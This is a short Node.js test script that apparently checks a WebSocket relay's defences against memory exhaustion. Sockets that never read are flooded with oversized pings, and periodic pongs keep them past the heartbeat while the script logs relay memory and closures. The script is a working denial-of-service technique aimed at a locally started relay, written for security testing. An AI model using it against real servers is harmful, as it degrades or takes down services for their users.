// Free keys, never reading, kept alive: each socket makes the relay buffer ~8 MiB of pongs it never
// reads, then sends a tiny {"type":"pong"} every 15 s (counts as a sign of life; no answer), so the
// heartbeat never cuts it. Relay RSS stays up for as long as the attacker likes.
// Usage: node 03f-unread-kept-alive.mjs [sockets=10] [seconds=75]
import { startRelay, keypair, authFrame, sleep } from './lib.mjs';
import { rawConnect, frame } from './rawws.mjs';
const N = Number(process.argv[2] || 10); const SECS = Number(process.argv[3] || 75);
const relay = await startRelay('/tmp/rt/ka2-' + process.pid);
await sleep(1000);
const before = relay.rss();
const socks = [];
for (let i = 0; i < N; i++) {
  const s = await rawConnect(relay.url, { read: false });
  s.write(frame(1, authFrame(keypair())));
  await sleep(30);
  const ping = frame(1, `{"type":"ping","ts":"${'x'.repeat(1000)}"}`);
  for (let j = 0; j < 16; j++) s.write(Buffer.concat(Array(500).fill(ping)));
  socks.push(s);
}
const keep = setInterval(() => { for (const s of socks) s.write(frame(1, '{"type":"pong"}')); }, 15000);
for (let t = 15; t <= SECS; t += 15) {
  await sleep(15000);
  const log = relay.log();
  console.log(`t=${t}s: RSS ${relay.rss().toFixed(0)} MB (before ${before.toFixed(0)}); relay closed ${(log.match(/"ws_close"/g) || []).length}/${N} connections (slow_reader ${(log.match(/ws_slow_reader/g) || []).length}, heartbeat ${(log.match(/heartbeat_timeout/g) || []).length})`);
}
clearInterval(keep);
for (const s of socks) s.destroy();
await relay.stop();
